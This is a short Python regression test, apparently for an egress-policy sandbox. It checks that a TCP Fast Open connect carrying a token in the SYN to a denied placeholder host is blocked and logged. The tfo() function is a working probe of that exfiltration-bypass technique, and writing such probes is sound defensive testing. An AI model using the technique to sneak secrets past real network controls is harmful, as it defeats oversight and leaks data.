"""TCP_FASTOPEN_CONNECT: connect() returns at once and the first write carries the token in the SYN, to a denied host (regression)."""
from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
FEATURES = ["tcp_fastopen"]
AS = ("nobody",)
DENIED = [(D4, 443, "tcp")]
RECORD = [("egress.connect", {"egress.decision": "deny", "network.peer.address": D4})]


def tfo(token):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    s.settimeout(2)
    s.connect((D4, 443))
    return s.send(payload(token, "tfo-connect"))


def job(token, args):
    attempt("TCP_FASTOPEN_CONNECT %s" % D4, tfo, token)


if __name__ == "__main__":
    main(globals())
